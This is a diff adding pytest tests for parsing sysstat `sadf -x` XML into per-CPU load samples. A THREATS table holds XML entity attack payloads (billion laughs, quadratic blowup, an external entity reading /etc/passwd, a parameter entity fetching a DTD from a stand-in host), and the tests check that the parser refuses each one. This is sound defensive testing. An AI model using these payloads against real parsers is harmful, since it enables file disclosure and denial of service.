@@ -1,9 +1,11 @@
-"""sadf's other forms of sar's per-CPU load: `sadf -p` (sadf_ppc) read into the same samples
-`sadf -d` (sadf_csv) gives for the same sar binary."""
+"""sadf's other forms of sar's per-CPU load: `sadf -p` (sadf_ppc) and `sadf -x` (sadf_xml)
+read into the same samples `sadf -d` (sadf_csv) gives for the same sar binary; XML that
+declares entities is refused."""
 
 from __future__ import annotations
 
 import shutil
+import socket
 import subprocess
 import time
 from pathlib import Path
@@ -150,6 +152,113 @@ def test_sadf_ppc_glued_twice_reads_each_time_once(utc) -> None:  # type: ignore
     assert any("already read" in d.message for d in p.diagnostics)
 
 
+# --- sadf -x -----------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("name", ["sadf_x.xml", "sadf_x_tu.xml"])
+def test_sadf_xml_equals_sadf_csv_of_the_same_binary(name: str, monkeypatch: pytest.MonkeyPatch
+                                                     ) -> None:
+    """`sadf -x` (and `-x -t` of `-u`: the node's local time, `utc="0"`, its header naming
+    UTC) gives what `sadf -d` gives, whatever zone corescope runs in."""
+    monkeypatch.setenv("TZ", "America/New_York")
+    time.tzset()
+    try:
+        p = _read(_bytes(name), name)
+        r = _read(_bytes("sadf_burn_d.csv"))
+    finally:
+        monkeypatch.undo()
+        time.tzset()
+    assert p.kind == "sadf_xml"
+    assert b"http://" in _bytes(name)  # sadf's DOCTYPE names an http DTD: never fetched
+    assert not p.diagnostics and not p.notes
+    assert len(p.samples) == 5
+    assert _samples(p) == _samples(r)
+
+
+def test_sadf_xml_is_read_without_the_network(monkeypatch: pytest.MonkeyPatch) -> None:
+    def no_network(*a: object, **k: object) -> None:
+        raise AssertionError("the XML reader touched the network")
+
+    monkeypatch.setattr(socket.socket, "connect", no_network)
+    monkeypatch.setattr(socket, "create_connection", no_network)
+    monkeypatch.setattr(socket, "getaddrinfo", no_network)
+    assert len(sadf_forms.parse(_bytes("sadf_x.xml"), "sadf_xml", "t").samples) == 5
+
+
+_HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'
+_BODY = _bytes("sadf_x.xml").decode().split("\n", 3)[3]  # from <sysstat on
+
+THREATS = {
+    "billion laughs": _HEAD + '<!DOCTYPE sysstat [\n<!ENTITY lol "lol">\n' + "".join(
+        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">\n'
+        for i in range(1, 10)) + "]>\n" + _BODY.replace("<sysdata-version>",
+                                                        "<sysdata-version>&lol9;"),
+    "quadratic blowup": _HEAD + '<!DOCTYPE sysstat [<!ENTITY a "' + "x" * 5000 + '">]>\n'
+    + _BODY.replace('usr="0.00"', 'usr="0.00" x="' + "&a;" * 100 + '"', 1),
+    "external entity": _HEAD + '<!DOCTYPE sysstat [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
+    "\n" + _BODY.replace("<release>", "<release>&xxe;"),
+    "parameter entity": _HEAD + '<!DOCTYPE sysstat [<!ENTITY % dtd SYSTEM '
+    '"http://192.0.2.1/evil.dtd"> %dtd;]>\n' + _BODY,
+    "unparsed entity": _HEAD + '<!DOCTYPE sysstat [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM '
+    '"http://192.0.2.1/u" NDATA n>]>\n' + _BODY,
+}
+
+
+@pytest.mark.parametrize("threat", sorted(THREATS))
+def test_sadf_xml_entity_declarations_are_refused(threat: str, tmp_path: Path,
+                                                   monkeypatch: pytest.MonkeyPatch) -> None:
+    """defusedxml's threats all need an entity declaration: such a document is not read at
+    all (sadf never declares one), with the reason, and nothing is fetched."""
+    from corescope.ingest import import_paths
+    from corescope.store.db import Store
+
+    monkeypatch.setattr(socket.socket, "connect", lambda *a: pytest.fail("network"))
+    data = THREATS[threat].encode()
+    assert sniff(data) == "sadf_xml"
+    p = sadf_forms.parse(data, "sadf_xml", "t")
+    assert p.records == 0 and len(p.samples) == 0
+    assert "declares entities" in p.diagnostics[0].message
+    assert "refused" in p.diagnostics[0].message
+    (tmp_path / "in").mkdir()
+    (tmp_path / "in" / "sar.xml").write_bytes(data)
+    with Store.open(tmp_path / "s") as store:
+        (f,) = import_paths([tmp_path / "in"], store).files
+    assert f.kind == "sadf_xml" and f.status == "skipped" and f.records == 0
+    assert f.reason is not None and "refused" in f.reason
+
+
+def test_sadf_xml_deep_nesting_is_refused() -> None:
+    data = (_HEAD + "<sysstat>" + "<a>" * 5000 + "</a>" * 5000 + "</sysstat>").encode()
+    p = sadf_forms.parse(data, "sadf_xml", "t")
+    assert p.records == 0 and "nested" in p.diagnostics[0].message
+
+
+@pytest.mark.parametrize("cut", [0.3, 0.55, 0.8, 0.97])
+def test_sadf_xml_truncated(utc, cut: float) -> None:  # type: ignore[no-untyped-def]
+    """A cut file: the complete timestamps are read, the cut one is not (its CPU list may be
+    short), and the break is named."""
+    data = _bytes("sadf_x.xml")
+    whole = _samples(_read(data))
+    p = sadf_forms.parse(data[: int(len(data) * cut)], "sadf_xml", "t")
+    got = _samples(p)
+    assert got == whole[: len(got)] and len(got) < len(whole)
+    assert any("XML breaks at line" in d.message for d in p.diagnostics)
+
+
+@pytest.mark.parametrize("junk", [
+    b"<sysstat><<<>>>", b"<sysstat>\x00\xff", b'<?xml version="1.0"?><sysstat>',
+    b'<?xml version="1.0" encoding="bogus"?><sysstat/>', b"<sysstat></host></sysstat>",
+])
+def test_sadf_xml_garbage_gives_a_diagnostic(junk: bytes) -> None:
+    assert sniff(junk) == "sadf_xml"
+    p = sadf_forms.parse(junk, "sadf_xml", "t")
+    assert p.records == 0 and p.diagnostics
+    bad = _bytes("sadf_x.xml").replace(b'usr="1.01"', b'usr="x"').replace(
+        b'interval="1">\n\t\t\t\t<cpu-load>\n\t\t\t\t\t<cpu number="all" usr="50.75"',
+        b'interval="?">\n\t\t\t\t<cpu-load>\n\t\t\t\t\t<cpu number="all" usr="50.75"')
+    p = sadf_forms.parse(bad, "sadf_xml", "t")
+    assert p.diagnostics and 3 <= len(p.samples) < 5
+
+
 # --- the same binary rendered every way by the installed sadf ----------------------------------
 
 def _sadf(*args: str) -> bytes:
@@ -159,13 +268,13 @@ def _sadf(*args: str) -> bytes:
 
 @pytest.mark.skipif(shutil.which("sadf") is None, reason="sysstat's sadf is not installed")
 @pytest.mark.parametrize("opts", [("-u", "ALL"), ("-u",)])
-@pytest.mark.parametrize("form", [("-p",), ("-p", "-t"), ("-p", "-U")])
+@pytest.mark.parametrize("form", [("-p",), ("-p", "-t"), ("-p", "-U"), ("-x",), ("-x", "-t")])
 def test_installed_sadf_forms_agree(utc, opts: tuple[str, ...], form: tuple[str, ...]  # type: ignore[no-untyped-def]
                                     ) -> None:
     ref = _read(_sadf("-d", str(SA_BIN), "--", "-P", "ALL", *opts))
     assert ref.kind == "sadf_csv" and len(ref.samples) == 5
     p = _read(_sadf(*form, str(SA_BIN), "--", "-P", "ALL", *opts))
-    assert p.kind == sadf_forms.KINDS[0] and not p.diagnostics
+    assert p.kind == ("sadf_xml" if "-x" in form else "sadf_ppc") and not p.diagnostics
     assert _samples(p) == _samples(ref)
 
 
@@ -174,5 +283,6 @@ def test_fixtures_are_what_sadf_printed() -> None:
     if shutil.which("sadf") is None:
         pytest.skip("sysstat's sadf is not installed")
     assert _sadf("-p", str(SA_BIN), "--", "-P", "ALL", "-u", "ALL") == _bytes("sadf_p.txt")
+    assert _sadf("-x", str(SA_BIN), "--", "-P", "ALL", "-u", "ALL") == _bytes("sadf_x.xml")
     assert Path(SA_BIN).stat().st_size < 64 * 1024
     assert sysstat.sadf_time("2026-12-01 10:27:54 UTC") == 1796120874.0
